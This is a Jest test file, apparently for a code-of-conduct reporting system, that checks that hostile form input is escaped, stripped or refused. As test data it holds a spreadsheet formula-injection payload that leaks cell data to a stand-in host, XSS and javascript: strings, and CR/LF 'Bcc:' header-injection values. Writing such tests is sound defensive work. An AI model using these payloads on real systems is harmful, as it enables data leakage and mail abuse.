// Adversarial catalogue, part 1 (ADV-01…ADV-14): formula and HTML injection in every field, header injection in addresses and names, oversized and malformed input, blank and duplicate deliveries.
import {
  ANA,
  BO,
  COMMITTEE_OPTIONS,
  CY,
  DEE,
  MODS,
  REPORT_ONE,
  SPACE,
  moderatorsAccepted,
  recommendationSent,
} from '../support/flows';
import { duplicateTrigger, Rehearsal } from '../support/rehearsal';

jest.setTimeout(10 * 60 * 1000);

const FORMULA = '=HYPERLINK("https://evil.example.com/?leak="&A1,"click")';
const XSS = '<img src=x onerror=alert(1)><script>alert(2)</script>';
const TEXT_ITEMS = [
  'Your name',
  'Your email address',
  'Who was involved?',
  'When did it happen?',
  'What happened?',
  'Were there witnesses?',
  'Anything else we should know?',
];

function start(): Rehearsal {
  return Rehearsal.start(COMMITTEE_OPTIONS);
}

/** Every cell of the status spreadsheet and the registry, as text. */
function allCells(r: Rehearsal, spreadsheetId: string): string[] {
  return r.ws.data.sheets(spreadsheetId).flatMap((s) => s.rows.flat().map((v) => String(v ?? '')));
}

function formulaCells(r: Rehearsal): string[] {
  return [r.ids.status, r.ids.registry].flatMap((id) =>
    r.ws.data.sheets(id).flatMap((s) =>
      s.formulas
        .flat()
        .filter(Boolean)
        .map((f) => `${s.name}: ${f}`),
    ),
  );
}

/** Everything that went out as HTML: every mail's HTML body. */
function htmlOut(r: Rehearsal): string {
  return r.ws
    .mail()
    .map((m) => m.htmlBody)
    .join('\n');
}

describe('adversarial: injection, headers and malformed input', () => {
  it('ADV-01 formula injection in every Form field becomes no formula anywhere', () => {
    const r = start();
    const answers: Record<string, string> = Object.fromEntries(TEXT_ITEMS.map((t) => [t, `${FORMULA} ${t}`]));
    answers['Your email address'] = '+1@example.net';
    answers['Where did it happen?'] = SPACE;
    answers['Your name'] = `=IMPORTXML("https://evil.example.com","//a")`;
    const { kase } = r.report(answers, { reporter: { email: '+1@example.net' } });
    expect(kase).not.toBeNull();
    expect(formulaCells(r)).toEqual([]);
    // The status sheet carries none of the report's text; the registry keeps it as plain text; the Doc verbatim.
    expect(allCells(r, r.ids.status).some((c) => c.includes('HYPERLINK') || c.includes('IMPORTXML'))).toBe(false);
    expect(r.registry('Cases')[0]['Reporter Name']).toBe(answers['Your name']);
    expect(r.docText(1)).toContain(`${FORMULA} What happened?`);
    // A member's answers and the sweep rewrite the case's row: still no formula.
    expect(r.respond(ANA.email, 1, 'no-conflict').ok).toBe(true);
    r.sweep();
    expect(formulaCells(r)).toEqual([]);
  });

  it('ADV-02 HTML and script injection in every Form field is escaped in every page and every HTML mail', () => {
    const r = start();
    const answers: Record<string, string> = Object.fromEntries(TEXT_ITEMS.map((t) => [t, `${XSS} ${t}`]));
    answers['Your email address'] = 'reporter@example.net';
    answers['Who was involved?'] = `Sam ${XSS}`;
    r.report(answers, { reporter: { email: 'reporter@example.net' } }, 1);
    expect(htmlOut(r)).not.toMatch(/<img src=x|<script>alert/i);
    // The hostile answers reached the mail, markup stripped from the names the screening email lists (the receipt,
    // which printed the reporter's name escaped, greets nobody since ADV-131).
    expect(htmlOut(r)).toMatch(/We have a report that involves [^<]*script/);
    const link = r.link(ANA.email, 'no-conflict', 1);
    const page = r.ws.webGet(link?.url ?? '').body;
    expect(page).not.toMatch(/<img src=x|<script>alert/i);
    expect(r.respond(ANA.email, 1, 'no-conflict').ok).toBe(true);
    const casePage = r.ws.webGet(r.link(ANA.email, 'case', 1)?.url ?? '').body;
    expect(casePage).not.toMatch(/<img src=x|<script>alert/i);
  });

  it('ADV-03 formula and HTML injection through the Doc sections reaches no sheet, page or mail unescaped', () => {
    const r = start();
    r.report(REPORT_ONE.answers, REPORT_ONE.people);
    for (const m of [ANA, CY, DEE]) expect(r.respond(m.email, 1, 'no-conflict').ok).toBe(true);
    r.writeTexts(ANA.email, 1, {
      plan: `${FORMULA}\n${XSS}`,
      consequences: `@SUM(1) ${XSS}`,
      letter: `${XSS} in a public channel.\nImpact: ${FORMULA}`,
      followUp: `${XSS} Thank you.`,
    });
    expect(r.openVote(ANA.email, 1).ok).toBe(true);
    const votePage = r.ws.webGet(r.link(CY.email, 'vote', 1)?.url ?? '').body;
    expect(votePage).not.toMatch(/<img src=x|<script>alert/i);
    expect(votePage).toContain('&lt;script&gt;');
    for (const m of [ANA, CY]) expect(r.vote(m.email, 1, 'approve').ok).toBe(true);
    expect(r.sendRecommendation(ANA.email, 1).ok).toBe(true);
    const modPage = r.ws.webGet(r.link(MODS[0], 'moderator', 1)?.url ?? '').body;
    expect(modPage).not.toMatch(/<img src=x|<script>alert/i);
    expect(htmlOut(r)).not.toMatch(/<img src=x|<script>alert/i);
    expect(formulaCells(r)).toEqual([]);
  });

  it("ADV-04 a moderator's disagreement with injected HTML is stored verbatim and shown escaped", () => {
    const r = start();
    recommendationSent(r);
    expect(r.moderatorReply(MODS[0], 1, 'disagree', `${XSS} ${FORMULA}`).ok).toBe(true);
    expect(r.docText(1)).toContain(XSS);
    const casePage = r.ws.webGet(r.link(ANA.email, 'case', 1)?.url ?? '').body;
    expect(casePage).not.toMatch(/<img src=x|<script>alert/i);
    expect(htmlOut(r)).not.toMatch(/<img src=x|<script>alert/i);
    expect(formulaCells(r)).toEqual([]);
  });

  it("ADV-05 a formula or a script as the letter's address is refused and nothing is sent", () => {
    const r = start();
    moderatorsAccepted(r);
    const mailBefore = r.ws.mail().length;
    for (const to of [FORMULA, `${XSS}@example.net`, 'javascript:alert(1)']) {
      const result = r.sendLetter(ANA.email, 1, to);
      expect(result.ok).toBe(false);
    }
    expect(
      r.ws
        .mail()
        .slice(mailBefore)
        .filter((m) => /reviewed a report about your behavior/i.test(m.body)),
    ).toHaveLength(0);
    expect(r.registry('Outbox').some((o) => o.Kind === 'letter')).toBe(false);
  });

  it('ADV-06 CR/LF and "Bcc:" in the reporter\'s address field add no recipient', () => {
    const r = start();
    const injected = 'reporter@example.net\r\nBcc: evil@example.com';
    r.report({ ...REPORT_ONE.answers, 'Your email address': injected }, REPORT_ONE.people);
    expect(r.mailTo('evil@example.com')).toHaveLength(0);
    for (const m of r.ws.mail()) {
      expect(m.bcc).toEqual([]);
      expect(m.cc).toEqual([]);
      expect(m.to).toHaveLength(1);
      expect(m.subject).not.toMatch(/[\r\n]/);
    }
    // The address could not be used as one address: no acknowledgment at all, and the case says so.
    expect(r.registry('Cases')[0]['Reporter Email']).toBe('');
  });

  it("ADV-07 header injection through the reporter's name reaches no subject, recipient or header", () => {
    const r = start();
    const name = 'Rita\r\nBcc: evil@example.com\r\nSubject: You won';
    r.report(
      { ...REPORT_ONE.answers, 'Your name': name },
      { ...REPORT_ONE.people, reporter: { name: 'Rita', email: 'rita.quell@example.net' } },
    );
    expect(r.mailTo('evil@example.com')).toHaveLength(0);
    for (const m of r.ws.mail()) {
      expect(m.subject).not.toMatch(/[\r\n]|You won/);
      expect(m.bcc).toEqual([]);
      expect(m.replyTo).not.toMatch(/evil/);
    }
  });

  it('ADV-08 a letter address carrying a second address, CR/LF or "Bcc:" is refused', () => {
    const r = start();
    moderatorsAccepted(r);
    for (const to of [
      'sam@example.net\r\nBcc: evil@example.com',
      'sam@example.net, evil@example.com',
      'sam@example.net;evil@example.com',
      'Sam <sam@example.net>, evil@example.com',
    ]) {
      expect(r.sendLetter(ANA.email, 1, to).ok).toBe(false);
    }
    expect(r.mailTo('evil@example.com')).toHaveLength(0);
    expect(r.registry('Outbox').some((o) => o.Kind === 'letter')).toBe(false);
  });

  it("ADV-09 several addresses in the reporter's field get no acknowledgment (never a mail to a list)", () => {
    const r = start();
    r.report(
      { ...REPORT_ONE.answers, 'Your email address': 'one@example.net, two@example.net' },
      { reporter: { email: 'one@example.net' } },
    );
    expect(r.mailTo('one@example.net')).toHaveLength(0);
    expect(r.mailTo('two@example.net')).toHaveLength(0);
    expect(r.registry('Cases')[0]['Reporter Email Problem']).toBe('multiple');
  });

  it('ADV-10 a 100,000-character answer becomes a case: cells stay under the limit, mail stays small, the Doc keeps it', () => {
    const r = start();
    const huge = `${'A long account. '.repeat(6250)}`.slice(0, 100_000);
    expect(huge).toHaveLength(100_000);
    const { kase } = r.report(
      { ...REPORT_ONE.answers, 'What happened?': huge, 'Who was involved?': `Sam Doe, ${'X'.repeat(5000)}` },
      REPORT_ONE.people,
    );
    expect(kase).not.toBeNull();
    for (const cell of allCells(r, r.ids.registry)) expect(cell.length).toBeLessThan(50_000);
    expect(r.docText(1)).toContain(huge.slice(0, 5000));
    for (const m of r.ws.mail()) expect(m.body.length + m.htmlBody.length).toBeLessThan(200 * 1024);
    expect(r.registry('Cases')[0].Phase).toBe('screening');
  });

  it('ADV-11 control characters, bidi overrides, zero-width characters and emoji never reach a subject, a title or the sheet', () => {
    const r = start();
    const nasty = 'Sam\u202Eeod\u202C \u0000\u0007\u001b[31m Doe\u200B 😀';
    r.report({ ...REPORT_ONE.answers, 'Who was involved?': nasty, 'Your name': 'Rita\u202E Quell' }, REPORT_ONE.people);
    // eslint-disable-next-line no-control-regex
    const forbidden = /[\u0000-\u0008\u000b-\u001f\u202a-\u202e\u2066-\u2069]/;
    const subjects = r.ws
      .mail()
      .map((m) => m.subject)
      .join('\n');
    expect(subjects).not.toMatch(forbidden);
    expect(allCells(r, r.ids.status).join('\n')).not.toMatch(forbidden);
    for (const d of r.ws.snapshot().docs) expect(d.title).toMatch(/^[a-z]+( [a-z]+)+$/);
    const screening = r.mailTo(ANA.email).find((m) => /conflict of interest/i.test(m.subject));
    expect(screening?.body).not.toMatch(forbidden);
  });

  it('ADV-12 a report naming 200 people screens a bounded list and stays one case', () => {
    const r = start();
    const many = Array.from({ length: 200 }, (_, i) => `Person Number${i}`).join(', ');
    r.report({ ...REPORT_ONE.answers, 'Who was involved?': many }, REPORT_ONE.people);
    const screening = r.mailTo(BO.email).find((m) => /conflict of interest/i.test(m.subject));
    expect(screening).toBeDefined();
    const named = (screening?.body.match(/Person Number\d+/g) ?? []).length;
    expect(named).toBeGreaterThan(0);
    expect(named).toBeLessThanOrEqual(12);
    expect(r.registry('Cases')).toHaveLength(1);
  });

  it('ADV-13 blank answers and phantom blank events make no case and no mail', () => {
    const r = start();
    const mail = r.ws.mail().length;
    r.blankEvent();
    r.blankEvent();
    r.report({ 'What happened?': '   ', 'Who was involved?': '\n\t ' }, {});
    expect(r.registry('Cases')).toHaveLength(0);
    expect(r.ws.mail()).toHaveLength(mail);
    expect(r.status()).toHaveLength(0);
  });

  it('ADV-14 one report delivered five times, with a second submit trigger installed, is one case with one set of mail', () => {
    const r = start();
    const formId = r.ids.form;
    // A second installable trigger for the same Form (installed twice, as R1 describes).
    duplicateTrigger(r, 'onReportSubmit_');
    expect(r.ws.triggers().filter((t) => t.eventType === 'ON_FORM_SUBMIT' && t.sourceId === formId)).toHaveLength(2);
    const { results } = r.report(REPORT_ONE.answers, REPORT_ONE.people, 5);
    expect(results).toHaveLength(10);
    expect(r.registry('Cases')).toHaveLength(1);
    const keys = r.registry('Outbox').map((o) => o.Key);
    expect(new Set(keys).size).toBe(keys.length);
    expect(r.mailTo('rita.quell@example.net')).toHaveLength(1);
    // The sweep's trigger health check removes the duplicate.
    r.sweep();
    expect(r.ws.triggers().filter((t) => t.eventType === 'ON_FORM_SUBMIT' && t.sourceId === formId)).toHaveLength(1);
  });
});
